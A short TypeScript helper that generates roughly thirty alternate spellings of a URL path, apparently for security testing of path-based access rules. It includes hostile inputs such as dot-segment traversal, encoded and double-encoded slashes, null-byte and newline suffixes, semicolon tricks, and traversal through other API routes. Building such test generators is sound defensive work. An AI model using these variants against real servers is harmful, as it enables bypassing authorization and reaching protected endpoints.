/** Ways to write a path that some server somewhere takes for the path itself, or for another one. */
export function spellingsOf(path: string): string[] {
  const last = path.lastIndexOf('/');
  const [head, tail] = [path.slice(0, last), path.slice(last + 1)];
  const letter = tail.charCodeAt(0).toString(16);
  return [
    `${path}/`,
    `/${path}`,
    `${head}//${tail}`,
    `${head}/./${tail}`,
    `${head}/%2e/${tail}`,
    `${head}/x/../${tail}`,
    `${head}/x/%2e%2e/${tail}`,
    `${head}/x%2f..%2f${tail}`,
    `${head}/x/..%5c${tail}`,
    `${head}%2f${tail}`,
    `${head}%252f${tail}`,
    `${head}\\${tail}`,
    `${head}/%${letter}${tail.slice(1)}`,
    `${head}/%25${letter}${tail.slice(1)}`,
    `${path};a=b`,
    `${head};x/${tail}`,
    `${path}%00`,
    `${path}%0a`,
    `${path}%20`,
    `${path}.json`,
    `${path}?`,
    `${path}?a=/ping`,
    `${path}#/ping`,
    `/ping/..${path}`,
    `/ping/%2e%2e${path}`,
    `/api/v1/session/..${path}`,
    `/api/v1/session/%2e%2e/${path.replace('/api/v1/', '')}`,
    `/api/v1/docs/..${path}`,
    `/API${path.slice(4)}`,
    path.toUpperCase(),
    `http://localhost${path}`,
    `//localhost${path}`,
  ];
}
